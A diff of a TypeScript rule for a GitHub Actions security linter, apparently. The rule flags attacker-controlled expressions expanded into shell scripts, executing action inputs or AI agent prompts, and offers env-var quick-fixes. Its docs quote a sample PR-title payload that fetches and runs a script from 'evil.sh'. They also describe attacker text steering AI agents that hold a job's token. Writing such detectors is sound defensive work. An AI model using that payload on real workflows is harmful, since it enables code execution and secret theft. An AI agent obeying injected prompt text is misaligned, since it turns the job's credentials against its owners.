@@ -1,95 +1,171 @@
-import { defineRule, type Fix, type TextEdit } from '../../engine/types';
-import type { ExpressionOccurrence } from '../../expressions/parse';
-import type { Step } from '../../model/workflow';
-import { isUntrustedContext } from '../../analysis/contexts';
-import { addStepEnv, envNames, uniqueName } from '../../fixes/env';
+import { defineRule, type Confidence, type Fix, type Severity } from '../../engine/types';
 import type { AnalysisContext } from '../../engine/context';
+import type { ExpressionOccurrence } from '../../expressions/parse';
+import type { ScalarValue } from '../../model/common';
+import type { Job, Step } from '../../model/workflow';
+import { actionTaint, describeTaint, expressionTaints, workflowTaint, type Taint, type TaintedRef, type TaintScope } from '../../analysis/taint';
+import { describeReach, severityForReach, type Reach } from '../../analysis/triggers';
+import { languageOfShell, moveExpressionToEnv, type ScriptLanguage } from '../../fixes/script-env';
+
+/** Inputs of popular actions that run their value as code (a shell on the runner or a remote host, Python...). */
+const EXECUTING_INPUTS: Record<string, string[]> = {
+  'appleboy/ssh-action': ['script'],
+  'nick-fields/retry': ['command'],
+  'wandalen/wretry.action': ['command'],
+  'azure/cli': ['inlinescript'],
+  'azure/powershell': ['inlinescript'],
+  'addnab/docker-run-action': ['run'],
+  'jannekem/run-python-script-action': ['script'],
+  'cypress-io/github-action': ['command', 'build', 'start'],
+  'mikefarah/yq': ['cmd'],
+  'garygrossgarten/github-action-ssh': ['command'],
+  'actions/github-script': ['script'],
+};
+
+/** AI agents whose prompt an attacker can fill: the text steers a model that holds the job's token and tools. */
+export const AI_AGENT_PROMPTS: Record<string, string[]> = {
+  'anthropics/claude-code-action': ['prompt', 'direct_prompt', 'override_prompt', 'custom_instructions'],
+  'anthropics/claude-code-base-action': ['prompt', 'append_system_prompt', 'system_prompt'],
+  'openai/codex-action': ['prompt'],
+  'google-github-actions/run-gemini-cli': ['prompt'],
+  'google-gemini/gemini-cli-action': ['prompt'],
+};
 
 export default defineRule({
   meta: {
     id: 'template-injection',
     title: 'Expression injection into a script',
-    description: 'An attacker-controllable expression (a PR title, a branch name, a comment body...) is expanded inside a run: script.',
+    description:
+      'An attacker-controllable value (a PR title, a branch name, a comment body, an output or env var derived from one...) is expanded by `${{ }}` into a run: script, a github-script, an input an action executes, or an AI agent prompt.',
     severity: 'high',
     confidence: 'high',
     category: 'untrusted-input',
-    aliases: ['template-injection', 'expression-injection', 'injection'],
+    aliases: ['template-injection', 'expression-injection', 'injection', 'expression', 'code-injection'],
     appliesTo: ['workflow', 'action'],
     fixable: true,
     docs: {
       risk:
-        'GitHub substitutes `${{ }}` expressions into the script text before the shell runs it. A pull request title such as `"; curl evil.sh | sh; echo "` becomes shell code running with the job\'s token and secrets.',
+        'GitHub substitutes `${{ }}` expressions into the script text before the shell runs it. A pull request title such as `"; curl evil.sh | sh; echo "` becomes shell code running with the job\'s token and secrets. The same holds for values that carry such text further: env vars and step or job outputs set from it, inputs of a composite action or reusable workflow, and prompts of AI agents that can run tools. Severity follows who can trigger the workflow: high when any GitHub user can and the job has secrets (pull_request_target, issue_comment, issues, workflow_run...), medium for fork pull requests, reusable workflows and composite actions, low when only maintainers can.',
       remediation:
-        'Pass the value through an environment variable and reference it quoted: `env: TITLE: ${{ github.event.pull_request.title }}` and `echo "$TITLE"`. The quick-fix does exactly that.',
+        'Pass the value through an environment variable and reference it quoted: `env: TITLE: ${{ github.event.pull_request.title }}` and `echo "$TITLE"` (bash/sh), `$env:TITLE` (pwsh), `%TITLE%` (cmd), `os.environ["TITLE"]` (python), `process.env.TITLE` (actions/github-script). The quick-fix does exactly that, reusing an existing env entry with the same value. Numbers, SHAs, ids, booleans and statuses are never reported. AI agent prompts have no mechanical fix: gate the workflow on the author\'s association and keep untrusted text out of the prompt.',
       vulnerableExample: 'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.pull_request.title }}"\n',
       safeExample: 'on: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          PR_TITLE: ${{ github.event.pull_request.title }}\n        run: echo "$PR_TITLE"\n',
-      references: ['https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections'],
+      references: [
+        'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
+        'https://securitylab.github.com/resources/github-actions-untrusted-input/',
+      ],
     },
   },
 
   step(step, job, wf, ctx) {
-    checkRun(step, ctx, [wf.env, job.env]);
+    const taint = workflowTaint(wf, ctx);
+    checkStep(step, job, taint.stepScope(step), taint.reachOf(job, step), ctx, [wf.env, job.env]);
   },
 
-  actionStep(step, _action, ctx) {
-    checkRun(step, ctx, []);
+  actionStep(step, action, ctx) {
+    checkStep(step, undefined, actionTaint(action, ctx).stepScope(step), 'action', ctx, []);
   },
 });
 
-function checkRun(step: Step, ctx: AnalysisContext, outerEnv: Array<{ entries: Array<{ name: string }> } | undefined>): void {
-  const run = step.run;
-  if (!run) return;
-  for (const expr of run.expressions) {
-    const bad = expr.contexts.find((c) => isUntrustedContext(c.segments));
-    if (!bad) continue;
-    const fix = moveToEnvFix(step, ctx.text, expr, bad.segments, outerEnv);
+type Sink = { kind: 'script'; lang?: ScriptLanguage; what: string } | { kind: 'action-input'; what: string } | { kind: 'prompt'; what: string };
+
+function checkStep(step: Step, job: Job | undefined, scope: TaintScope, reach: Reach | 'action', ctx: AnalysisContext, outerEnv: Array<{ entries: Array<{ name: string }> } | undefined>): void {
+  if (step.run) {
+    const shell = step.shell ?? (job?.runsOn.some((r) => /windows/i.test(r.text)) ? 'pwsh' : 'bash');
+    checkValue(step, step.run, { kind: 'script', lang: languageOfShell(shell), what: `the ${shell} script` }, scope, reach, ctx, outerEnv);
+  }
+  const slug = step.uses?.slug;
+  if (!slug || !step.with) return;
+  const executing = EXECUTING_INPUTS[slug];
+  const prompts = AI_AGENT_PROMPTS[slug];
+  for (const entry of step.with.entries) {
+    if (!entry.value?.expressions.length) continue;
+    const input = entry.name.toLowerCase();
+    if (slug === 'actions/github-script' && input === 'script') {
+      checkValue(step, entry.value, { kind: 'script', lang: 'javascript', what: 'the github-script code' }, scope, reach, ctx, outerEnv);
+    } else if (executing?.includes(input)) {
+      checkValue(step, entry.value, { kind: 'action-input', what: `${slug}'s ${entry.name} input, which it executes` }, scope, reach, ctx, outerEnv);
+    } else if (prompts?.includes(input)) {
+      checkValue(step, entry.value, { kind: 'prompt', what: `the ${entry.name} of AI agent ${slug}` }, scope, reach, ctx, outerEnv);
+    }
+  }
+}
+
+/** Beyond this many expressions in one script, findings carry no fix: each fix rewrites every occurrence, which would be quadratic. */
+const MAX_FIXABLE_EXPRESSIONS = 500;
+
+function checkValue(step: Step, value: ScalarValue, sink: Sink, scope: TaintScope, reach: Reach | 'action', ctx: AnalysisContext, outerEnv: Array<{ entries: Array<{ name: string }> } | undefined>): void {
+  // Identical expressions share one fix (it rewrites all of them at once).
+  const fixes = new Map<string, Fix | undefined>();
+  const fixable = sink.kind === 'script' && !!sink.lang && value.expressions.length <= MAX_FIXABLE_EXPRESSIONS;
+  for (const expr of value.expressions) {
+    const hits = expressionTaints(expr, scope);
+    if (hits.length === 0) continue;
+    const hit = strongestHit(hits);
+    const { severity, confidence } = rating(hit.taint, reach);
+    const key = ctx.text.slice(expr.span.start, expr.span.end);
+    if (fixable && !fixes.has(key)) fixes.set(key, fixFor(step, value, expr, hit, (sink as { lang: ScriptLanguage }).lang, ctx.text, outerEnv));
+    const fix = fixes.get(key);
+    const advice =
+      sink.kind === 'prompt'
+        ? 'an attacker can instruct the agent. Keep untrusted text out of the prompt and gate the workflow on the author\'s association.'
+        : sink.kind === 'action-input'
+          ? 'it runs as code. Pass it through an environment variable the command reads instead.'
+          : sink.lang === 'javascript'
+            ? 'it becomes JavaScript code. Move it to env: and read process.env.'
+            : 'it becomes shell code. Move it to env: and reference the variable quoted.';
     ctx.report({
-      message: `${bad.path} can be set by an outsider and is expanded into the script: move it to env: and use "$VAR" in the script.`,
+      message: `${describeTaint(hit.taint)} ${sourcePhrase(hit.taint, reach)} and is expanded into ${sink.what}: ${advice} (${reachPhrase(hit.taint, reach)})`,
       span: expr.span,
+      severity,
+      confidence,
       fixes: fix ? [fix] : [],
-      properties: { context: bad.path },
+      properties: { context: hit.taint.origin, via: hit.taint.via, source: hit.taint.source, reach, sink: sink.kind },
     });
   }
 }
 
-function moveToEnvFix(step: Step, text: string, expr: ExpressionOccurrence, segments: string[], outerEnv: Array<{ entries: Array<{ name: string }> } | undefined>): Fix | undefined {
-  const run = step.run!;
-  const exprText = text.slice(expr.span.start, expr.span.end);
-  const existing = step.env?.entries.find((e) => e.value?.text.trim() === exprText.trim());
-  const taken = envNames(step.env, ...outerEnv);
-  const name = existing?.name ?? uniqueName(segments.filter((s) => s !== '*').slice(-2).join('_'), taken);
-  const shell = (step.shell ?? 'bash').toLowerCase();
-  const edits: TextEdit[] = [];
-  for (const occ of run.expressions) {
-    if (text.slice(occ.span.start, occ.span.end) !== exprText) continue;
-    const quote = shellQuoteAt(text, occ.span.start);
-    const posix = quote === '"' ? `\${${name}}` : quote === "'" ? `'"\${${name}}"'` : `"\${${name}}"`;
-    const ref = shell.startsWith('pwsh') || shell.startsWith('powershell') ? `$env:${name}` : shell === 'cmd' ? `%${name}%` : posix;
-    edits.push({ span: occ.span, newText: ref });
-  }
-  if (!existing) {
-    const envEdit = addStepEnv(text, step, [{ name, value: exprText }]);
-    if (!envEdit) return undefined;
-    edits.push(envEdit);
-  }
-  return { title: `Move ${segments.join('.')} to env: ${name}`, safety: 'safe', isPreferred: true, edits };
+const CONF_RANK: Record<Confidence, number> = { high: 3, medium: 2, low: 1 };
+
+function strongestHit(hits: TaintedRef[]): TaintedRef {
+  return hits.reduce((a, b) => (CONF_RANK[b.taint.confidence] > CONF_RANK[a.taint.confidence] ? b : a));
 }
 
-/** The POSIX-shell quote open at `offset` on its line: '"', "'" or '' (a line-local view, which is what fixes need). */
-function shellQuoteAt(text: string, offset: number): string {
-  const lineStart = text.lastIndexOf('\n', offset - 1) + 1;
-  let quote = '';
-  for (let i = lineStart; i < offset; i++) {
-    const c = text[i];
-    if (quote === "'") {
-      if (c === "'") quote = '';
-    } else if (c === '\\') {
-      i++;
-    } else if (c === '"') {
-      quote = quote === '"' ? '' : '"';
-    } else if (c === "'" && quote === '') {
-      quote = "'";
-    }
+/** Severity follows who can set the value; confidence follows how sure we are that it is attacker text. */
+export function rating(t: Taint, reach: Reach | 'action'): { severity: Severity; confidence: Confidence } {
+  switch (t.source) {
+    case 'dispatch-input':
+      return { severity: 'low', confidence: t.confidence };
+    case 'call-input':
+    case 'action-input':
+      return { severity: 'medium', confidence: t.confidence };
+    default:
+      return { severity: severityForReach(reach), confidence: t.confidence };
   }
-  return quote;
+}
+
+function sourcePhrase(t: Taint, reach: Reach | 'action'): string {
+  switch (t.source) {
+    case 'dispatch-input':
+      return 'is free text from whoever dispatches the workflow';
+    case 'call-input':
+      return 'comes from the calling workflow, which may pass attacker text';
+    case 'action-input':
+      return 'comes from the workflow using this action, which may pass attacker text';
+    default:
+      return reach === 'maintainer' ? 'may carry text written by others (e.g. merged commits)' : 'can be set by an outsider';
+  }
+}
+
+function reachPhrase(t: Taint, reach: Reach | 'action'): string {
+  if (t.source === 'dispatch-input') return 'only users with write access can dispatch it';
+  return describeReach(reach);
+}
+
+function fixFor(step: Step, script: ScalarValue, expr: ExpressionOccurrence, hit: TaintedRef, lang: ScriptLanguage, text: string, outerEnv: Array<{ entries: Array<{ name: string }> } | undefined>): Fix | undefined {
+  const segments = hit.ref.segments;
+  // `${{ env.NAME }}` already names a process environment variable: read it in place.
+  const existingVar = segments[0] === 'env' && segments.length === 2 && expr.inner.trim().toLowerCase() === `env.${segments[1]}` ? expr.inner.trim().slice(4) : undefined;
+  const baseName = segments.filter((s) => s !== '*' && s !== 'event' && s !== 'outputs' && s !== 'github').slice(-2).join('_');
+  return moveExpressionToEnv({ text, step, script, expr, lang, baseName, outerEnv, existingVar });
 }
